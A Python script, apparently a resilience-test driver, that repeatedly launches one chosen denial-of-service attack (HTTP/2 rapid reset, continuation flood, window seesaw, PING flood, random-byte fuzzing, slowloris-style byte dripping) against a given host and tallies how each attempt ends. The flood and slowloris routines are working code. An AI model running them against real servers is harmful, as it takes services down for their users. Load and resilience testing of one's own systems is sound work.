"""One kind of attack over and over from one process, which connects again whenever it is thrown out. Prints "begun",
"enough" once ENOUGH of them ended as END says, and in the end one JSON document: `attacks` is how many were made, `ended`
how many of them ended in which way.

usage: attacks.py KIND END ENOUGH SECONDS HOST PORT PATH

Goes on until its standard input ends, and at most for so many seconds. What that cuts off is no attack.
"""
import sys

sys.dont_write_bytecode = True

import collections, json, os, random, select, socket, threading, time
import h2_floods
from h2_floods import Attacker, INITIAL_WINDOW_SIZE, PING, frame, setting

# How many send their heads by the byte at a time, and how long each waits between two bytes.
DRIPPING, DRIP_SECONDS = 40, 0.05
# What opens and closes windows in one attack, and what pings come in one: few enough that a turn has many attacks.
SEESAW_TURNS, PINGS = 500, 20_000


def said_goodbye(it):
    return "no goodbye" if it["goaway"] is None else f"goaway {it['goaway']}"


def rapid_reset(to, path):
    return said_goodbye(h2_floods.rapid_reset(to, path))


def continuation(to, path):
    return said_goodbye(h2_floods.continuation(to, path))


def windows(to, path):
    """Answers that nobody lets come, and windows that go up and down before them."""
    it = Attacker(*to, setting(INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 41, 2):
        it.send(it.ask(stream, path))
    for turn in range(SEESAW_TURNS):
        it.send(setting(INITIAL_WINDOW_SIZE, turn % 2))
    return answered(it, 1 + SEESAW_TURNS)


def pings(to, path):
    it = Attacker(*to)
    for _ in range(PINGS // 1000):
        it.send(frame(PING, 0, 0, b"8 bytes!") * 1000)
    return answered(it, 1 + PINGS)


def answered(it, count):
    """Whether each was answered, which is what such a client is owed, and no more."""
    it.wait(lambda: it.acked == count)
    it.socket.close()
    if it.acked == count:
        return "answered"
    return "not answered" if it.goaway is None else f"goaway {it.goaway}"


def nonsense(to, path):
    """Bytes of all kinds, some of which begin as a request does."""
    beginning = random.choice([b"", b"GET ", b"GET / HTTP/1.1\r\n", b"GET /recordings HTTP/1.1\r\nHost: x\r\n"])
    with socket.create_connection(to) as stream:
        stream.settimeout(h2_floods.PATIENCE)
        try:
            stream.sendall(beginning + random.randbytes(random.randrange(2000)) + b"\r\n\r\n")
            stream.shutdown(socket.SHUT_WR)
            came = stream.recv(1 << 16)
        except TimeoutError:
            return "silence"
        except OSError:
            came = b""
    return "closed" if not came else came[9:12].decode() if came.startswith(b"HTTP/1.") else "something else"


def once(attack):
    """Attacks one after the other."""
    def attacks(to, path):
        while time.monotonic() < Attacker.until:
            yield attack(to, path)
    return attacks


def slow_heads(to, path):
    """Many who send a head by the byte."""
    head, them = b"GET /livez HTTP/1.1\r\nX: ", {}
    while time.monotonic() < Attacker.until:
        while len(them) < DRIPPING:
            them[socket.create_connection(to)] = 0
        time.sleep(DRIP_SECONDS)
        for one in list(them):
            try:
                sent = them[one]
                one.send(head[sent:sent + 1] or b"x")
                them[one] += 1
                # What comes can only be the end.
                if not select.select([one], [], [], 0)[0]:
                    continue
                outcome = "cut" if not one.recv(1000) else "answered"
            except OSError:
                outcome = "cut"
            del them[one]
            one.close()
            yield outcome


KINDS = {"rapid-reset": once(rapid_reset), "continuation": once(continuation), "windows": once(windows),
         "pings": once(pings), "nonsense": once(nonsense), "slow-heads": slow_heads}


def end_with_input():
    while os.read(0, 1):
        pass
    Attacker.until = 0


if __name__ == "__main__":
    kind, end, enough, seconds, host, port, path = sys.argv[1:]
    random.seed(kind)
    Attacker.until = time.monotonic() + float(seconds)
    ended = collections.Counter()
    threading.Thread(target=end_with_input, daemon=True).start()
    print("begun", flush=True)
    for outcome in KINDS[kind]((host, int(port)), path):
        if time.monotonic() < Attacker.until:
            ended[outcome] += 1
            if outcome == end and ended[end] == int(enough):
                print("enough", flush=True)
    print(json.dumps({"attacks": sum(ended.values()), "ended": ended}))
